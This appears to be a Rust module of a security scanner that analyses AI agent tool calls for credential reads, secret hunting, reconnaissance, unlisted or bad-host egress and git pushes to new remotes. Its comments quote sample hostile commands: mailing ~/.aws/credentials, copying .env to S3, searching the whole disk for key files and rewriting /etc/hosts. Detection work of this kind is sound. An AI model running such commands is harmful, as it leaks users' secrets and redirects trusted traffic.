//! Canary findings for one tool call: credential reads (EXF-TRACE-003), secret
//! environment access (ENV-TRACE-001), probing (PRB-TRACE-001), egress
//! (EXF-TRACE-001/002, NET-TRACE-001/002), secrets read, encoded and sent in
//! one command (EXF-TRACE-004, see `flow.rs`), package installs from unknown
//! hosts (CMD-TRACE-001), plus the command rules of `exec.rs` and `persist.rs`.
//!
//! Input is a [`ToolCall`] (what the call does, per agent) and what the run
//! already told (its working directory, git remotes added earlier); output is
//! a list of [`Hit`]s and the network endpoints the call reached (chains use them).

use super::access::{
    credential_command, credential_used_in_place, env_file, env_hit, probe, read_paths,
};
use super::exec::{decoded_note, script_hits};
use super::hit::Hit;
use super::network::{classify, endpoints, host_of, Endpoint, HostClass};
use super::rules::id;
use super::shell::Script;
use super::taxonomy::{normalise_path, Taxonomy};
use super::tools::{Action, ToolCall};
use crate::model::Severity;

/// What a tool call did, as rule hits and endpoints.
#[derive(Debug, Default)]
pub struct CallAnalysis {
    pub hits: Vec<Hit>,
    pub endpoints: Vec<Endpoint>,
    /// Data left the machine without a finding of its own (upload to an allowlisted host).
    pub quiet_egress: bool,
}

/// What the run knows before this call.
#[derive(Debug, Clone, Default)]
pub struct CallCtx {
    /// The working directory the call runs in, when known.
    pub cwd: Option<String>,
    /// Git remotes (name, URL) added earlier in the run.
    pub remotes: Vec<(String, String)>,
}

/// Analyses every action of a tool call.
pub fn analyse(call: &ToolCall, tax: &Taxonomy) -> CallAnalysis {
    analyse_in(call, tax, &CallCtx::default())
}

/// [`analyse`] with what the run knows.
pub fn analyse_in(call: &ToolCall, tax: &Taxonomy, ctx: &CallCtx) -> CallAnalysis {
    let mut a = CallAnalysis::default();
    let cwd = call.cwd.as_deref().or(ctx.cwd.as_deref());
    for act in &call.actions {
        match act {
            Action::Shell { text, script } => shell(text, script, tax, ctx, &mut a),
            Action::Read { path } => {
                read_path(path, cwd, &call.tool, tax, &mut a.hits);
                if env_file(path) {
                    a.hits.push(Hit::new(
                        id::ENV_SECRET,
                        format!("{} reads the process environment", call.tool),
                        path,
                    ));
                }
            }
            Action::Search { path, pattern } => {
                read_path(path, cwd, &call.tool, tax, &mut a.hits);
                let full = super::path::resolve(path, cwd);
                if super::hunt::whole_tree(&full) && super::hunt::marked(pattern, tax) {
                    a.hits.push(
                        Hit::new(
                            id::EXF_CRED_READ,
                            format!(
                                "{} searches every file under {path} for secrets ({pattern})",
                                call.tool
                            ),
                            &format!("{} {pattern} {path}", call.tool),
                        )
                        .key(&format!("hunt {}", normalise_path(&full))),
                    );
                }
                if tax.sensitive_dir(path) && tax.credential(path).is_none() {
                    a.hits.push(Hit::new(
                        id::EXF_CRED_READ,
                        format!("{} searches credential folder {path}", call.tool),
                        path,
                    ));
                }
            }
            Action::Write { path, content } => {
                let full = super::path::resolve(path, cwd);
                a.hits
                    .extend(super::persist::write_hits(&full, content, &call.tool, tax));
                let here = CallCtx {
                    cwd: cwd.map(str::to_string),
                    remotes: ctx.remotes.clone(),
                };
                a.hits
                    .extend(super::written::hits(&full, content, &call.tool, tax, &here));
                if full.starts_with("/etc/") {
                    a.hits.push(Hit::new(
                        id::CMD_PRIVESC,
                        format!("writes {path} under /etc"),
                        &format!("{} {path}", call.tool),
                    ));
                }
            }
            Action::List { path } => {
                let p = super::path::resolve(path, cwd);
                if tax
                    .sensitive_dirs
                    .matches(p.trim_end_matches("/**").trim_end_matches("/*"))
                    .is_some()
                    || tax.sensitive_dirs.matches(&p).is_some()
                {
                    a.hits.push(Hit::new(
                        id::PRB_RECON,
                        format!("lists credential folder {path}"),
                        &format!("{} {path}", call.tool),
                    ));
                }
            }
            Action::Fetch { url } => fetch(url, &call.tool, tax, &mut a),
            Action::Send { url } => send_to(url, &call.tool, tax, &mut a),
            Action::Skill { .. } => {}
        }
    }
    if call.sends {
        // an upload, mail or sync tool that names where it sends: the
        // credential it reads goes there
        for h in a.hits.iter_mut().filter(|h| h.rule == id::EXF_CRED_READ) {
            *h = sent_by(h.clone(), Some(&call.tool));
        }
    }
    a
}

fn read_path(path: &str, cwd: Option<&str>, tool: &str, tax: &Taxonomy, hits: &mut Vec<Hit>) {
    if let Some(g) = tax.credential_at(path, cwd) {
        let full = super::path::resolve(path, cwd);
        let what = if tax.wallets.matches(&full).is_some() {
            "wallet"
        } else {
            "credential file"
        };
        hits.push(
            Hit::new(
                id::EXF_CRED_READ,
                format!("{tool} reads {what} {path} ({g})"),
                &format!("{tool} {path}"),
            )
            .key(&format!("read {}", normalise_path(&full))),
        );
    }
}

/// A destination a tool sends to: the host it reaches (a known-bad one is
/// NET-TRACE-002); what it carries is judged by the reads and secrets of the call.
fn send_to(url: &str, tool: &str, tax: &Taxonomy, a: &mut CallAnalysis) {
    let Some(host) = host_of(url) else { return };
    let ev = format!("{tool} {url}");
    if classify(&host, tax) == HostClass::Bad {
        a.hits.push(
            Hit::new(
                id::NET_BAD_HOST,
                format!("{tool} sends to known-bad host {host}"),
                &ev,
            )
            .key(&format!("{host}|{ev}")),
        );
    }
    a.endpoints.push(tool_endpoint(host, url, tool));
}

/// The endpoint a tool's call reaches at `url` (a send: the request carries
/// the call's arguments).
fn tool_endpoint(host: String, url: &str, tool: &str) -> Endpoint {
    Endpoint {
        host,
        target: url.to_string(),
        sends: true,
        by: tool.to_string(),
        new_remote: false,
        install: false,
    }
}

fn fetch(url: &str, tool: &str, tax: &Taxonomy, a: &mut CallAnalysis) {
    let Some(host) = host_of(url) else { return };
    let ev = format!("{tool} {url}");
    match classify(&host, tax) {
        HostClass::Bad => {
            a.hits.push(
                Hit::new(
                    id::NET_BAD_HOST,
                    format!("{tool} reaches known-bad host {host}"),
                    &ev,
                )
                .key(&format!("{host}|{ev}")),
            );
            a.hits.push(Hit::new(
                id::EXF_FETCH,
                format!("{tool} fetches from non-allowlisted host {host}"),
                &ev,
            ));
        }
        HostClass::Unlisted { .. } => {
            a.hits.push(Hit::new(
                id::EXF_FETCH,
                format!("{tool} fetches from non-allowlisted host {host}"),
                &ev,
            ));
        }
        HostClass::Allowed | HostClass::Loopback => {}
    }
    a.endpoints.push(tool_endpoint(host, url, tool));
}

pub(super) fn shell(
    text: &str,
    script: &Script,
    tax: &Taxonomy,
    ctx: &CallCtx,
    a: &mut CallAnalysis,
) {
    let ev = super::exec::short(text);
    a.hits.extend(script_hits(script, text, tax));
    a.hits.extend(super::written::run_on_line(script, tax, ctx));
    let mut recon: Vec<String> = Vec::new();
    for cmd in &script.commands {
        let name = cmd.name();
        let shown = cmd.display();
        let note = decoded_note(cmd);
        // EXF-TRACE-003: credential reads (high when the same command uploads them)
        let uploads = tax
            .uploaders
            .iter()
            .find(|w| super::access::command_matches(cmd, w))
            .map(|w| w.join(" "));
        let mut paths = read_paths(cmd, tax);
        paths.extend(super::access::xargs_paths(script, cmd, tax));
        for p in paths {
            if let Some(g) = tax.credential_at(&p, cmd.cwd.as_deref()) {
                let full = super::path::resolve(&p, cmd.cwd.as_deref());
                let what = if tax.wallets.matches(&full).is_some() {
                    "wallet"
                } else {
                    "credential file"
                };
                let hit = Hit::new(
                    id::EXF_CRED_READ,
                    format!("{shown} reads {what} {p} ({g}){note}"),
                    &ev,
                )
                .key(&format!("read {}", normalise_path(&full)));
                // `mail x@y < ~/.aws/credentials`, `aws s3 cp .env s3://…`: read and sent
                a.hits.push(sent_by(hit, uploads.as_deref()));
            } else if tax.sensitive_dir(&super::path::resolve(&p, cmd.cwd.as_deref()))
                && tax.folder_readers.contains(&name)
            {
                let hit = Hit::new(
                    id::EXF_CRED_READ,
                    format!("{shown} reads credential folder {p}{note}"),
                    &ev,
                )
                .key(&format!("read {}", normalise_path(&p)));
                a.hits.push(sent_by(hit, uploads.as_deref()));
            }
        }
        if let Some(words) =
            credential_command(cmd, tax).filter(|_| !credential_used_in_place(script, cmd.id, tax))
        {
            a.hits.push(
                Hit::new(
                    id::EXF_CRED_READ,
                    format!("{shown} prints a stored credential ({words}){note}"),
                    &ev,
                )
                .key(&format!("credential command {words}")),
            );
        }
        if let Some((pat, root)) = super::hunt::secret_hunt(cmd, tax) {
            a.hits.push(
                Hit::new(
                    id::EXF_CRED_READ,
                    format!("{shown} searches every file under {root} for secrets ({pat}){note}"),
                    &ev,
                )
                .key(&format!("hunt {root}")),
            );
        }
        for m in super::mounts::mounted_credentials(cmd, tax) {
            a.hits.push(
                Hit::new(
                    id::EXF_CRED_READ,
                    format!("{shown} mounts credential path {m} into a container{note}"),
                    &ev,
                )
                .key(&format!("mount {}", normalise_path(&m))),
            );
        }
        if let Some(c) = super::mounts::build_context_credentials(cmd, tax) {
            a.hits.push(
                Hit::new(
                    id::EXF_CRED_READ,
                    format!(
                        "{shown} builds a container image from {c}, which holds credentials{note}"
                    ),
                    &ev,
                )
                .key(&format!("build context {}", normalise_path(&c))),
            );
        }
        // PRB-TRACE-001 at medium: `find / -name '*.key'`
        a.hits.extend(super::evasion::name_hunt_hit(cmd, &ev));
        // EXF-TRACE-001: a file server handing out the home folder
        a.hits.extend(super::serve::exposed(cmd, tax, &ev));
        // ENV-TRACE-001
        if let Some(h) = env_hit(cmd, script, tax, &ev) {
            a.hits.push(h);
        }
        // PRB-TRACE-001
        if let Some(r) = probe(cmd, tax) {
            recon.push(r);
        }
        // Network
        let mut eps = endpoints(cmd, tax);
        if name == "git"
            && cmd.remote_url.is_none()
            && cmd.args().first().map(|s| s == "push").unwrap_or(false)
        {
            // `git push NAME` to a remote an earlier call of this run added
            for a2 in cmd.args().iter().skip(1).filter(|x| !x.starts_with('-')) {
                if let Some((_, url)) = ctx.remotes.iter().rev().find(|(n, _)| n == a2) {
                    if let Some(h) =
                        host_of(url).or_else(|| super::endpoints::remote_spec_host(url))
                    {
                        eps.push(Endpoint {
                            host: h,
                            target: url.clone(),
                            sends: true,
                            by: "git".into(),
                            new_remote: true,
                            install: false,
                        });
                    }
                }
            }
        }
        a.endpoints.extend(eps);
    }
    if !recon.is_empty() {
        a.hits.push(Hit::new(
            id::PRB_RECON,
            format!("reconnaissance: {}", recon.join(", ")),
            &ev,
        ));
    }
    // EXF-TRACE-004: a secret read, transformed and sent within the line
    for f in super::flow::flows(script, tax) {
        let how = if f.transforms.is_empty() {
            String::new()
        } else {
            format!(", {} it", f.transforms.join(" | "))
        };
        a.hits.push(
            Hit::new(
                id::EXF_SECRET_OUT,
                format!(
                    "reads {}{how} and sends it to {} ({}) in the same command",
                    f.source, f.sink.host, f.sink.by
                ),
                &ev,
            )
            .key(&format!("flow|{}|{ev}", f.sink.host))
            .egress(true),
        );
    }
    // `echo 'IP github.com' >> /etc/hosts` sends a trusted name to another address
    let overrides = hosts_overrides(script);
    if !overrides.is_empty() {
        for e in a.endpoints.iter_mut() {
            if let Some((_, ip)) = overrides.iter().find(|(n, _)| *n == e.host) {
                e.target = format!("{} (→ {ip} by /etc/hosts)", e.target);
                e.host = ip.clone();
            }
        }
    }
    let mut seen_hosts: Vec<(String, bool)> = Vec::new();
    for e in &a.endpoints {
        if seen_hosts.contains(&(e.host.clone(), e.sends)) {
            continue;
        }
        seen_hosts.push((e.host.clone(), e.sends));
        let class = classify(&e.host, tax);
        if e.install && matches!(class, HostClass::Unlisted { .. } | HostClass::Bad) {
            a.hits.push(
                Hit::new(
                    id::CMD_OBFUSCATED,
                    format!(
                        "{} installs a package from non-allowlisted {} (its install scripts run)",
                        e.by, e.target
                    ),
                    &ev,
                )
                .key(&format!("install|{}|{ev}", e.host)),
            );
        }
        if e.new_remote {
            let allowed = class == HostClass::Allowed;
            a.hits.push(
                Hit::new(
                    id::EXF_SHELL_EGRESS,
                    format!(
                        "git pushes the repository to {}, a remote added in this run",
                        e.target
                    ),
                    &ev,
                )
                .severity(if allowed {
                    Severity::Medium
                } else {
                    Severity::High
                })
                .key(&format!("push|{}|{ev}", e.host)),
            );
            continue;
        }
        match class {
            HostClass::Bad => {
                a.hits.push(
                    Hit::new(
                        id::NET_BAD_HOST,
                        format!("{} reaches known-bad host {}", e.by, e.host),
                        &ev,
                    )
                    .key(&format!("{}|{ev}", e.host)),
                );
                if e.sends {
                    a.hits.push(
                        Hit::new(
                            id::EXF_SHELL_EGRESS,
                            format!("{} sends data to {}", e.by, e.host),
                            &ev,
                        )
                        .key(&format!("{}|{ev}", e.host)),
                    );
                }
            }
            HostClass::Unlisted { ip } => {
                if e.sends {
                    a.hits.push(
                        Hit::new(
                            id::EXF_SHELL_EGRESS,
                            format!("{} sends data to non-allowlisted host {}", e.by, e.host),
                            &ev,
                        )
                        .key(&format!("{}|{ev}", e.host)),
                    );
                } else {
                    let what = if ip {
                        "raw IP address"
                    } else {
                        "non-allowlisted host"
                    };
                    a.hits.push(
                        Hit::new(
                            id::NET_UNLISTED,
                            format!("{} connects to {what} {}", e.by, e.host),
                            &ev,
                        )
                        .key(&format!("{}|{ev}", e.host)),
                    );
                }
            }
            HostClass::Allowed => {
                if e.sends {
                    // Uploads to allowlisted hosts raise no finding but still count as egress for chains.
                    a.quiet_egress = true;
                }
            }
            HostClass::Loopback => {}
        }
    }
}

/// A credential read by a command that uploads or mails what it reads: high, and egress.
fn sent_by(hit: Hit, uploader: Option<&str>) -> Hit {
    match uploader {
        Some(u) => Hit {
            message: format!("{} and sends it ({u})", hit.message),
            ..hit
        }
        .severity(Severity::High)
        .egress(true),
        None => hit,
    }
}

/// Names the line maps to addresses by writing `/etc/hosts`: (name, address).
fn hosts_overrides(script: &Script) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for cmd in &script.commands {
        let writes_hosts = super::exec::write_targets(cmd)
            .iter()
            .any(|t| normalise_path(t) == "/etc/hosts");
        if !writes_hosts {
            continue;
        }
        let text = if cmd.name() == "tee" {
            script.stdin_of(cmd.id)
        } else {
            script.output_of(cmd.id)
        };
        for line in text.unwrap_or_default().lines() {
            let mut words = line.split_whitespace();
            let Some(ip) = words.next().filter(|w| super::host::parse_ip(w).is_some()) else {
                continue;
            };
            for n in words.take(16) {
                if let Some(h) = super::host::canonical(n) {
                    out.push((h.name, ip.to_string()));
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests;
